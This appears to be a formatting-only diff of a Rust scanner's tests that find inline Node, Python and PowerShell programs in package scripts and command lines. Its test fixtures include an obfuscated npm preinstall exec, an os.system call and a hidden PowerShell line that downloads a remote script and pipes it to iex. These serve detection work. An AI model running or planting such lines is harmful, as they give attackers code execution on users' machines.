@@ -49,7 +49,6 @@ pub(crate) fn is_inline(payload: &Payload) -> bool {
     payload.encoding == NODE || payload.encoding == PYTHON || payload.encoding == POWERSHELL
 }
 
-
 /// The inline programs in `body`.
 pub(super) fn find(body: &str, base: usize, found: &mut Vec<Payload>) {
     let lower_has = |word: &str| body.contains(word) || body.to_ascii_lowercase().contains(word);
@@ -170,7 +169,10 @@ mod tests {
         let json = r#"{"scripts": {"preinstall": "node -e \"var c=require('child'+'_process');c.exec('id')\""}}"#;
         assert_eq!(
             inline(json),
-            [(NODE, "var c=require('child'+'_process');c.exec('id')".to_string())]
+            [(
+                NODE,
+                "var c=require('child'+'_process');c.exec('id')".to_string()
+            )]
         );
         let shell = "python3 -c \"import os; os.system(\\\"id > /tmp/x\\\")\" && echo ok";
         assert_eq!(
@@ -178,7 +180,10 @@ mod tests {
             [(PYTHON, "import os; os.system(\"id > /tmp/x\")".to_string())]
         );
         let single = "node --eval 'require(\"https\").get(process.argv[1])' x";
-        assert_eq!(inline(single)[0].1, "require(\"https\").get(process.argv[1])");
+        assert_eq!(
+            inline(single)[0].1,
+            "require(\"https\").get(process.argv[1])"
+        );
     }
 
     #[test]
@@ -187,7 +192,10 @@ mod tests {
         let found = inline(python);
         assert_eq!(found.len(), 1, "{found:?}");
         assert_eq!(found[0].0, POWERSHELL);
-        assert!(found[0].1.starts_with("Invoke-WebRequest -Uri"), "{found:?}");
+        assert!(
+            found[0].1.starts_with("Invoke-WebRequest -Uri"),
+            "{found:?}"
+        );
         let quoted = "powershell -nop -w hidden -c \"iwr https://a.invalid/s.ps1 | iex\"";
         assert_eq!(inline(quoted)[0].1, "iwr https://a.invalid/s.ps1 | iex");
         // A sentence naming PowerShell is not a command line.
